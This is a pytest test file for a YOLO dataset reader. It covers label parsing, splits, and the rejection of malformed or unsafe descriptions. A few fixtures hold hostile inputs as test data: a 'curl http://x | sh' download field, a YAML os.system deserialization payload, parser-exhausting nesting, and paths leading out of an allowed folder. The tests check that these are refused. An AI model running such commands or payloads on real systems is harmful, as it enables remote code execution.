"""YOLO: the layouts of its users, and lines and files that cannot be used."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from support.sources import Found

from beam_jobs.errors import UsageError
from beam_jobs.plan.schema.catalog import Catalog
from beam_jobs.sources import LeftOut, Problem
from beam_jobs.sources.detection.yolo import Yolo
from beam_jobs.sources.files.interface import SourceOptions

YAML = "train: images/train\nval: images/val\nnames:\n  0: cat\n  1: no\n"
BOX = "1 0.5 0.5 0.25 0.5\n"
CORNERS = [0.375, 0.25, 0.625, 0.75]


def made(root: Path, files: dict[str, str | bytes]) -> Path:
    for name, content in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(content.encode() if isinstance(content, str) else content)
    return root


def found(place: Path | str, **options: Any) -> Found:
    return Found(Yolo(SourceOptions(input=str(place), kind="yolo", **options)))


def refused(place: Path, **options: Any) -> str:
    with pytest.raises(UsageError) as caught:
        found(place, **options)
    return str(caught.value)


def splits(source: Found) -> dict[str, str | None]:
    return {id: entry.split for id, entry in source.entries.items()}


FILES: dict[str, str | bytes] = {
    "data.yaml": YAML,
    "images/train/1.jpg": b"one",
    "images/train/deep/2.jpg": b"two!",
    "images/val/3.jpg": b"3",
    "labels/train/1.txt": f"0 0.5 0.5 1 1\n\n{BOX}",
    "labels/train/deep/2.txt": "",
}


def test_images_and_their_label_files(tmp_path: Path) -> None:
    source = found(made(tmp_path, FILES))
    assert source.text == "a YOLO dataset of 3 images with 2 objects in 2 classes, 2 images without objects," + (
        " in splits (train, val)"
    )
    assert source.layout.class_names == ("cat", "no")  # "no" is no False
    assert splits(source) == {
        "images/train/1.jpg": "train",
        "images/train/deep/2.jpg": "train",
        "images/val/3.jpg": "val",
    }
    entry = source.entries["images/train/1.jpg"]
    assert entry.fields == {"objects/bbox": [[0.0, 0.0, 1.0, 1.0], CORNERS], "objects/label": [0, 1]}
    assert entry.size == 3 and source.read(entry.id) == b"one"
    assert source.entries["images/val/3.jpg"].fields == {"objects/bbox": [], "objects/label": []}
    assert source.layout.boxes == {"objects/bbox": "rel-xyxy"} and source.layout.warnings == ()
    assert found(tmp_path / "data.yaml").entries == source.entries


@pytest.mark.parametrize("where", ["local", "url"])
def test_a_dataset_in_a_store_is_the_same(where: str, tmp_path: Path, bucket: str) -> None:
    made(tmp_path, FILES)
    place = str(tmp_path)
    if where == "url":
        import fsspec

        fsspec.filesystem("memory").put(f"{tmp_path}/", bucket, recursive=True)
        place = bucket
    source = found(place)
    assert len(source.entries) == 3 and source.read("images/train/deep/2.jpg") == b"two!"


@pytest.mark.parametrize(
    ("path", "warns"),
    [("path: .\n", False), ("path: pets\n", False), ("", False), ("path: /of/another/machine\n", True)],
    ids=["here", "as-the-library-has-it", "none", "elsewhere"],
)
def test_the_folder_of_the_dataset(path: str, warns: bool, tmp_path: Path) -> None:
    source = found(made(tmp_path / "pets", {**FILES, "data.yaml": path + YAML}))
    assert set(source.entries) == {"images/train/1.jpg", "images/train/deep/2.jpg", "images/val/3.jpg"}
    assert [warning.partition(": ")[2] for warning in source.layout.warnings] == [
        "data.yaml has the path /of/another/machine, which has no such images: took its own folder"
    ] * warns
    assert source.read("images/val/3.jpg") == b"3"


def test_the_option_for_the_folder_wins(tmp_path: Path) -> None:
    made(tmp_path / "pets", FILES)
    place = made(tmp_path / "elsewhere", {"x.yaml": f"path: nowhere\n{YAML}"}) / "x.yaml"
    message = refused(place)
    assert f"train is images/train, which is not in {tmp_path}/elsewhere" in message and "--root" in message
    source = found(place, root=str(tmp_path / "pets"))
    assert "images/train/1.jpg" in source.entries and source.read("images/train/1.jpg") == b"one"


def test_an_absolute_path_is_followed_unless_it_leads_out(tmp_path: Path) -> None:
    made(tmp_path / "pets", FILES)
    place = made(tmp_path / "elsewhere", {"x.yaml": f"path: {tmp_path}/pets\n{YAML}"}) / "x.yaml"
    source = found(place)
    assert "images/train/1.jpg" in source.entries and source.read("images/train/1.jpg") == b"one"
    message = refused(place, below=str(tmp_path / "elsewhere"))
    assert f"leads out of --below {tmp_path / 'elsewhere'}" in message
    url = made(tmp_path / "url", {"x.yaml": "path: ssh://host/pets\n" + YAML}) / "x.yaml"
    assert "is of ssh://" in refused(url)
    assert "which --no-urls rejects" in refused(url, no_urls=True)


def test_a_layout_of_split_folders_with_a_path_that_is_wrong_by_one(tmp_path: Path) -> None:
    yaml = "train: ../train/images\nval: ../valid/images\ntest:\nnc: 1\nnames: ['cat']\nroboflow: {version: 1}\n"
    files = {"train/images/1.jpg": b"1", "train/labels/1.txt": "0 0.5 0.5 1 1", "valid/images/1.jpg": b"2"}
    source = found(made(tmp_path, {"data.yaml": yaml, **files}))
    assert splits(source) == {"train/images/1.jpg": "train", "valid/images/1.jpg": "val"}
    assert source.layout.left_out == (
        LeftOut(what="roboflow of the description", why="a YOLO source reads no such values"),
    )


def test_lists_of_paths(tmp_path: Path) -> None:
    lines = "\ufeff./images/1.jpg\r\n\nimages/2.jpg\n/nowhere/images/3.jpg\nhttps://host/images/4.jpg\n"
    yaml = "train: lists/train.txt\nval: [images/val]\nnames: [cat, dog]\n"
    files = {"data.yaml": yaml, "lists/train.txt": lines, "images/val/9.jpg": b"9"}
    files |= {"lists/images/1.jpg": b"1", "lists/labels/1.txt": BOX, "images/2.jpg": b"2", "labels/2.txt": BOX}
    source = found(made(tmp_path, files), no_urls=True)
    assert splits(source) == {
        "lists/images/1.jpg": "train",
        "images/2.jpg": "train",
        "/nowhere/images/3.jpg": "train",
        "images/val/9.jpg": "val",
    }
    assert [len(entry.fields["objects/label"]) for entry in source.entries.values()] == [0, 1, 0, 1]
    (reject,) = source.rejects.values()
    assert reject[0] == "url" and reject[1].startswith(
        "train.txt line 5: the path 'https://host/images/4.jpg' is a URL"
    )


def test_a_split_with_the_images_of_another_is_left_out(tmp_path: Path) -> None:
    yaml = "train: images\nval: images\nnames: [cat, dog]\n"  # as coco128.yaml has it
    source = found(made(tmp_path, {"data.yaml": yaml, "images/1.jpg": b"1", "labels/1.txt": BOX}))
    assert splits(source) == {"images/1.jpg": "train"} and source.layout.splits == ("train",)
    assert "val has the images of train, which an image is in once: val is left out" in source.layout.warnings[0]


@pytest.mark.parametrize("form", ["images/train/{}.jpg labels/train/{}.txt", "train/images/{}.jpg train/labels/{}.txt"])
def test_folders_without_a_description(form: str, tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {}
    for split in ("train", "valid"):
        image, labels = (name.replace("train", split) for name in form.format("1", "1").split())
        files |= {image: b"1", labels: BOX}
    source = found(made(tmp_path / "in", files))
    assert set(splits(source).values()) == {"train", "valid"} and source.layout.splits == ("train", "valid")
    assert source.layout.class_names is None and "has no names of classes" in source.layout.warnings[0]
    source = found(made(tmp_path / "in", {"classes.txt": "cat\ndog\n"}))
    assert source.layout.class_names == ("cat", "dog") and source.layout.warnings == ()


def test_numbers_of_classes_get_the_names_of_a_file(tmp_path: Path) -> None:
    source = Yolo(SourceOptions(input=str(made(tmp_path, {"images/1.jpg": b"1", "labels/1.txt": f"{BOX}2 .5 .5 1 1"}))))
    for names, labels in ((("a", "b", "c"), [1, 2]), (("a", "b"), None)):
        catalog = Catalog(names)
        (entry,) = source.entries()
        catalog.add(entry)
        schema = catalog.close(source.layout())
        reference = schema.reference(entry)
        if labels is None:
            assert reference == Problem("unknown-class", "the class 2 of an object is not in --classes")
        else:
            assert not isinstance(reference, Problem) and reference[0].values["objects/label"] == labels
            assert schema.class_names == names


def test_polygons_are_named_and_their_boxes_and_keypoints_kept(tmp_path: Path) -> None:
    lines = "0 0.1 0.2 0.5 0.1 0.3 0.9\n1 0.2 0.2 0.4 0.2 0.4 0.6 0.2 0.6\n" + BOX
    source = found(made(tmp_path / "a", {"data.yaml": "train: images\nnames: [a, b]", "images/1.jpg": b"",
                                         "labels/1.txt": lines}))  # fmt: skip
    (entry,) = source.entries.values()
    assert entry.fields["objects/bbox"] == [[0.1, 0.1, 0.5, 0.9], [0.2, 0.2, 0.4, 0.6], CORNERS]
    assert [one.what for one in source.layout.left_out] == ["polygons of 2 objects"]
    yaml = "train: images\nnames: [a, b]\nkpt_shape: [2, 2]\nflip_idx: [1, 0]\ndownload: curl http://x | sh\n"
    source = found(made(tmp_path / "b", {"data.yaml": yaml, "images/1.jpg": b"",
                                         "labels/1.txt": f"{BOX.strip()} 0.1 0.2 0.3 0.4\n"}))  # fmt: skip
    (entry,) = source.entries.values()
    assert entry.fields["objects/bbox"] == [CORNERS]
    assert [one.what for one in source.layout.left_out] == ["download of the description"]
    assert entry.fields["objects/keypoints"] == [[[0.1, 0.2, 2.0], [0.3, 0.4, 2.0]]]
    assert source.layout.fields["objects/keypoints"].flip_pairs == ((0, 1),)


@pytest.mark.parametrize(
    ("line", "reason", "message"),
    [
        ("2 0.5 0.5 1 1", "unknown-class", "is of the class 2: classes are numbers from 0, here 0 to 1"),
        ("-1 0.5 0.5 1 1", "unknown-class", "is of the class -1: classes are numbers from 0, here 0 to 1"),
        ("cat 0.5 0.5 1 1", "bad-annotation", "begins with 'cat', and not with the number of a class"),
        ("0.5 0.5 0.5 1 1", "bad-annotation", "begins with 0.5, and not with the number of a class"),
        ("0 0.5 0.5", "bad-annotation", "has 3 numbers: a box is a class and x, y, width, height"),
        ("0 0.5 0.5 1 1 0.9", "bad-annotation", "has 6 numbers: a box is a class and x, y, width, height"),
        ("0 0.1 0.1 0.5 0.5 0.9 0.9 0.1", "bad-annotation", "has 8 numbers: a box is a class"),
        (
            "0 320 240 64 48",
            "bad-box",
            "has 320: coordinates are parts of the image, 0 to 1; divide pixels by its size",
        ),
        ("0 -0.2 0.5 1 1", "bad-box", "has -0.2: coordinates are parts of the image, 0 to 1"),
        ("0 nan 0.5 1 1", "bad-box", "has nan, which is no number"),
        ("0 0.5 inf 1 1", "bad-box", "has inf, which is no number"),
        ("0 0.5 x 1 1", "bad-box", "has 'x', which is no number"),
        ("0 0.5 0.5 -0.001 1", "bad-box", "has the width -0.001 and the height 1, of which one is negative"),
    ],
)
def test_a_line_that_cannot_be_used_rejects_its_image(line: str, reason: str, message: str, tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {"data.yaml": "train: images\nnames: [a, b]", "labels/1.txt": f"{BOX}{line}\n"}
    source = found(made(tmp_path, {**files, "images/1.jpg": b"", "images/2.jpg": b""}))
    assert list(source.entries) == ["images/2.jpg"]
    (found_reason, text) = source.rejects["images/1.jpg"]
    assert found_reason == reason and text.startswith(f"labels/1.txt line 2: {message}")


def test_files_that_cannot_be_used(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "data.yaml": "train: images\nnames: [a, b]",
        "images/1.jpg": b"",
        "images/2.jpg": b"",
        "labels/2.txt": b"\xff\xfe",
        "labels/7.txt": BOX,
        "labels/classes.txt": "a\nb\n",
        "labels/train.cache": b"\x00",
    }
    source = found(made(tmp_path, files))
    assert source.rejects == {
        "images/2.jpg": ("bad-annotation", "labels/2.txt is not UTF-8 at byte 0"),
        "labels/7.txt": ("unknown-image", "labels/7.txt is the label file of an image that is not there"),
    }
    assert {one.what for one in source.layout.left_out} == {
        "1 .cache file, as train.cache",
        "1 .txt file, as labels/classes.txt",
    }


def test_images_without_any_label_file_are_a_warning(tmp_path: Path) -> None:
    (warning,) = found(
        made(tmp_path, {"data.yaml": YAML, "images/train/1.jpg": b"", "images/val/1.jpg": b""})
    ).layout.warnings
    assert "no image has a label file: that of images/1.jpg is labels/1.txt" in warning


@pytest.mark.parametrize(
    ("yaml", "message"),
    [
        ("names: [a]", "names no images: expected train, val or test"),
        ("train: images\nnames: {0: a, 2: b}", "names has the number '2': expected 0 to 1, each once"),
        ("train: images\nnames: [a, a]", "names has 'a' twice"),
        ("train: images\nnames: a", "names is 'a': expected the names of classes"),
        ("train: images\nnc: 3\nnames: [a]", "nc is 3, and names has 1 classes"),
        ("train: images\nnc: many", "nc is 'many': expected the number of classes"),
        ("train: {a: b}\nnames: [a]", "train is {'a': 'b'}: expected a folder, a list"),
        ("path: [a]\ntrain: images\nnames: [a]", "path is ['a'], and not the folder of the dataset"),
        ("train: nowhere\nnames: [a]", "train is nowhere, which is not in"),
        ("a: &x [1]\nb: *x", "has an alias (*name)"),
        ("train: [", "is not YAML"),
        ("- a\n- b", "is no description of a dataset"),
        ("[" * 100_000, "nests lists and keys more than 20 levels deep"),
        ("- " * 100_000, "nests lists and keys more than 20 levels deep"),
        ("!!python/object/apply:os.system ['touch x']", "is no description of a dataset"),
    ],
)  # fmt: skip
def test_a_description_that_cannot_be_used(yaml: str, message: str, tmp_path: Path) -> None:
    assert message in refused(made(tmp_path, {"x.yaml": yaml, "images/1.jpg": b""}) / "x.yaml")


def test_inputs_that_cannot_be(tmp_path: Path) -> None:
    assert "does not exist" in refused(tmp_path / "nowhere")
    two = "train: images\nnames: [a]\n"
    assert "which of a.yaml, b.yaml? give the file" in refused(made(tmp_path / "two", {"a.yaml": two, "b.yaml": two}))
    assert "No such file" in refused(tmp_path / "two/c.yaml")
